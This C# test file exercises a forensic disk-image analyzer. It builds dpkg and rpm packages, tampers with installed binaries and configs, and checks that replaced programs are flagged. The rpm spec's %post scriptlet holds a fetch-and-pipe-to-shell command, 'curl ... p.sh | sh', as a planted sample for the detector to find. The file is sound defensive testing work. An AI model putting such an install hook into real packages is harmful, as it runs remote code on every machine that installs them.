using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Databases that dpkg and rpm wrote themselves; their own verification says beforehand which files were changed.</summary>
public sealed class RealPackagesTests : IDisposable
{
    private const string Uuid = "44444444-4444-4444-8444-444444444444";

    private readonly Machine _machine = new();

    public void Dispose() => _machine.Dispose();

    [Fact]
    public void What_dpkg_calls_changed_is_found_and_nothing_else()
    {
        Assert.SkipUnless(Has("dpkg-deb"), "needs dpkg");
        string root = Root();
        string package = _machine.At("package");
        foreach (string name in (string[])["ps", "top", "ls", "anytool"])
        {
            Program(package + "/usr/bin/" + name, name);
        }
        Write(package + "/etc/tool.conf", "a=1\n");
        Write(package + "/DEBIAN/control", "Package: tools\nVersion: 1.2-3\nArchitecture: all\nMaintainer: Debian Tools <tools@lists.debian.org>\nDescription: test\n");
        Write(package + "/DEBIAN/conffiles", "/etc/tool.conf\n");
        Write(package + "/DEBIAN/postinst", "#!/bin/sh\nset -e\nexit 0\n");
        Write(package + "/DEBIAN/md5sums", string.Concat(((string[])["ps", "top", "ls", "anytool"]).Select(name => Machine.Run("md5sum", ["usr/bin/" + name], null, package))));
        Machine.Run("chmod", ["755", package + "/DEBIAN/postinst"]);
        Machine.Run("dpkg-deb", ["--root-owner-group", "-b", package, _machine.At("tools.deb")]);
        Directory.CreateDirectory(root + "/var/lib/dpkg/info");
        Directory.CreateDirectory(root + "/var/lib/dpkg/updates");
        File.WriteAllText(root + "/var/lib/dpkg/status", "");
        Machine.Run("dpkg", ["--root=" + root, "--force-not-root", "--force-script-chrootless", "--force-depends", "--log=/dev/null", "-i", _machine.At("tools.deb")]);
        Program(root + "/usr/bin/ps", "trojan");
        Write(root + "/etc/tool.conf", "a=2\n");
        File.AppendAllText(root + "/usr/bin/anytool", "changed");
        // dpkg says "??5?????? c /etc/tool.conf" and the same for both programs.
        string verified = Machine.Run("bash", ["-c", "dpkg --root=" + root + " --verify || true"]);
        Assert.Equal(["/etc/tool.conf", "/usr/bin/anytool", "/usr/bin/ps"], verified.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => line[line.IndexOf('/', StringComparison.Ordinal)..]).Order(StringComparer.Ordinal));

        JsonObject report = Deadbox.Scan(Image(root)).Report;
        Assert.Equal(1, (int)report["hosts"]![0]!["packageManagers"]!["dpkg"]!);
        Assert.Equal([("L-BIN.package-files-changed", "medium", "/usr/bin/anytool"), ("L-BIN.vital-program-replaced", "critical", "/usr/bin/ps")], Integrity(report));
        Assert.Equal(Integrity(report).Where(finding => finding.Path == "/usr/bin/ps"), Integrity(Deadbox.Scan(Image(root), "--profile", "triage").Report));
    }

    [Fact]
    public void What_rpm_calls_changed_is_found_and_nothing_else()
    {
        Assert.SkipUnless(Has("rpmbuild") && Has("rpm"), "needs rpm");
        string root = Root();
        string build = Directory.CreateDirectory(_machine.At("rpm")).FullName;
        Write(build + "/tools.spec", """
            Name: tools
            Version: 1
            Release: 2
            Summary: test
            License: none
            Vendor: AlmaLinux
            BuildArch: noarch
            AutoReqProv: no
            %description
            Test.
            %install
            mkdir -p %{buildroot}/usr/bin %{buildroot}/etc
            for name in ps top ls anytool; do printf '\177ELF\002\001\001%%s' $name >%{buildroot}/usr/bin/$name; done
            echo a=1 >%{buildroot}/etc/tool.conf
            %post
            curl -fsS http://203.0.113.9/p.sh | sh
            %files
            %attr(0755,root,root) /usr/bin/*
            %config /etc/tool.conf
            """);
        Machine.Run("rpmbuild", ["-bb", "--define", "_topdir " + build, "--define", "_build_id_links none", "--define", "__os_install_post %{nil}", build + "/tools.spec"]);
        string package = Directory.EnumerateFiles(build + "/RPMS", "*.rpm", SearchOption.AllDirectories).Single();
        Machine.Run("rpm", ["--root", root, "--dbpath", "/var/lib/rpm", "--define", "_db_backend sqlite", "--justdb", "--nodeps", "--noscripts", "--ignorearch", "-i", package]);
        foreach (string name in (string[])["ps", "top", "ls", "anytool"])
        {
            Program(root + "/usr/bin/" + name, name);
        }
        Write(root + "/etc/tool.conf", "a=2\n");
        Program(root + "/usr/bin/top", "TOP");

        JsonObject report = Deadbox.Scan(Image(root)).Report;
        Assert.Equal(1, (int)report["hosts"]![0]!["packageManagers"]!["rpm"]!);
        Assert.Equal([("L-BIN.vital-program-replaced", "critical", "/usr/bin/top")], Integrity(report));
        JsonNode script = Assert.Single(report["findings"]!.AsArray(), finding => ((string)finding!["ruleId"]!).StartsWith("L-RPM.", StringComparison.Ordinal))!;
        Assert.Equal("/var/lib/rpm/rpmdb.sqlite", (string?)script["path"]);
        Assert.Contains("postin of the package tools", (string)script["message"]!, StringComparison.Ordinal);
        Assert.Equal("rpm -e --noscripts tools", (string?)script["remediation"]![0]);
    }

    private static (string Rule, string Severity, string Path)[] Integrity(JsonObject report) =>
    [
        .. report["findings"]!.AsArray().Where(finding => ((string)finding!["ruleId"]!).StartsWith("L-BIN.", StringComparison.Ordinal))
            .Select(finding => ((string)finding!["ruleId"]!, (string)finding["severity"]!, (string)finding["path"]!)).OrderBy(finding => finding.Item3, StringComparer.Ordinal),
    ];

    private string Root()
    {
        string root = Directory.CreateDirectory(_machine.At("root")).FullName;
        foreach ((string path, string text) in Machine.System("real", ""))
        {
            Write(root + "/" + path, text);
        }
        return root;
    }

    private string Image(string root)
    {
        string image = _machine.At("real.img");
        Machine.Run("mke2fs", ["-q", "-F", "-t", "ext4", "-b", "1024", "-U", Uuid, "-E", "root_owner=0:0", "-d", root, image, "16M"]);
        return image;
    }

    private static void Program(string path, string text)
    {
        Write(path, "\x7F" + "ELF\x02\x01\x01" + text);
        Machine.Run("chmod", ["755", path]);
    }

    private static void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
    }

    private static bool Has(string program) => Machine.Run("bash", ["-c", "command -v " + program + " || true"]).Length > 0;
}
